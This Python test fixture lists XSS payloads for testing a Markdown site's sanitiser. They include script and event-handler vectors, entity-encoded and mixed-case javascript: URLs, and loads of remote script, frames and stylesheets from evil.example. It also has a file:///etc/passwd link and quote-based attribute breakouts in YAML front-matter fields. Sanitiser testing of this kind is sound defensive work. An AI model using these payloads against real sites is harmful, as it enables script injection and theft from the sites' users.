"""XSS payloads for the hostile-entry tests: each line is one Markdown paragraph of an entry body.

Classic vectors (OWASP XSS filter evasion cheat sheet style): script elements, event handlers,
dangerous elements, style injection, javascript:/vbscript:/data: URLs with entity-encoding,
mixed case, embedded tabs/newlines, and Markdown links and images with such URLs.
"""
PAYLOADS = [
    "<script>alert('xss-1')</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert('xss-3')</scr</script>ipt>",
    "<img src=https://example.org/x.png onerror=alert('xss-4') alt=x>",
    "<svg onload=alert('xss-5')>",
    "<svg><script>alert('xss-6')</script></svg>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert('xss-8')</script>\"></iframe>",
    "<object data=\"https://evil.example/x.swf\"></object>",
    "<embed src=\"https://evil.example/x.swf\">",
    "<style>body{display:none}</style>",
    "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">overlay</p>",
    "<div style=\"background:url(javascript:alert('xss-13'))\">bg</div>",
    "<a href=\"javascript:alert('xss-14')\">klikk</a>",
    "<a href=\"JaVaScRiPt:alert('xss-15')\">klikk</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('xss-16')\">klikk</a>",
    "<a href=\"&#x6A;avascript&#x3A;alert('xss-17')\">klikk</a>",
    "<a href=\"jav&#x09;ascript:alert('xss-18')\">klikk</a>",
    "<a href=\"jav&#x0A;ascript:alert('xss-19')\">klikk</a>",
    "<a href=\" &#14;  javascript:alert('xss-20')\">klikk</a>",
    "<a href=\"javascript&colon;alert('xss-21')\">klikk</a>",
    "<a href=\"vbscript:msgbox('xss-22')\">klikk</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzLTIzJyk8L3NjcmlwdD4=\">klikk</a>",
    "<a href=\"DaTa:text/html,<script>alert('xss-24')</script>\">klikk</a>",
    "[klikk](javascript:alert('xss-25'))",
    "[klikk](JAVASCRIPT:alert('xss-26'))",
    "[klikk](jav&#x09;ascript:alert('xss-27'))",
    "[klikk](&#106;avascript:alert('xss-28'))",
    "[klikk](<javascript:alert('xss-29')>)",
    "[klikk][ref29]\n\n[ref29]: javascript:alert('xss-30')",
    "![bilde](javascript:alert('xss-31'))",
    "![bilde](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoJ3hzcy0zMicpPg==)",
    "<a href=\"https://example.org\" onclick=\"alert('xss-33')\">klikk</a>",
    "<a href=\"https://example.org\" target=\"_blank\">ekstern</a>",
    "<details open ontoggle=alert('xss-35')>",
    "<body onload=alert('xss-36')>",
    "<input autofocus onfocus=alert('xss-37')>",
    "<form action=\"javascript:alert('xss-38')\"><button>send</button></form>",
    "<math><mtext><a xlink:href=\"javascript:alert('xss-39')\">x</a></mtext></math>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('xss-41')\">",
    "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
    "<img src=\"https://example.org/x.png\" alt=\"x\" onmouseover=\"alert('xss-43')\">",
    "<img src=\"https://example.org/x.png\" alt=\"\\\" onerror=\\\"alert('xss-44')\">",
    "<a href=\"https://example.org\" title='\" onmouseover=\"alert(`xss-45`)'>tittel</a>",
    "<p id=\"__config\" class=\"md-header\">theme id and class clobbering</p>",
    "</div></article><script>alert('xss-47')</script>",
    "<!--<script>alert('xss-48')</script>-->",
    "<![CDATA[<script>alert('xss-49')</script>]]>",
    "<noscript><p title=\"</noscript><img src=https://example.org/x onerror=alert('xss-50')>\"></noscript>",
    "<template><script>alert('xss-51')</script></template>",
    "<textarea><script>alert('xss-52')</script></textarea>",
    "`<script>alert('xss-53')</script>` in code",
    "    <script>alert('xss-54')</script> (indented code)",
    "<a href=\"  javascript:alert('xss-55')\">klikk</a>",
    "<img srcset=\"javascript:alert('xss-56') 1x\" alt=\"x\">",
    "<video poster=\"javascript:alert('xss-57')\"></video>",
    "<a href=\"file:///etc/passwd\">fil</a>",
]

# Front-matter fields that reach templates (page title, meta description, facts, sources), as
# YAML lines. The validator refuses < > and entities in tittel/sammendrag/kilder titles, so
# these use what it lets through: quotes, to break out of attributes.
FIELDS = {
    "tittel": """'Kafe "Posten" '' onmouseover=alert(1) x='''""",
    "sammendrag": """'Slutt" onmouseover="alert(2)" x=" og '' onfocus=''alert(3)'""",
    "kontakt": """'Rolle" onclick="alert(4)'""",
}
KILDER_URL = "https://example.org/?a='onmouseover=alert(6)"   # ' is allowed in a URL
KILDER = f"""kilder:
  - tittel: 'Kilde" onmouseover="alert(5)'
    url: "{KILDER_URL}"
"""
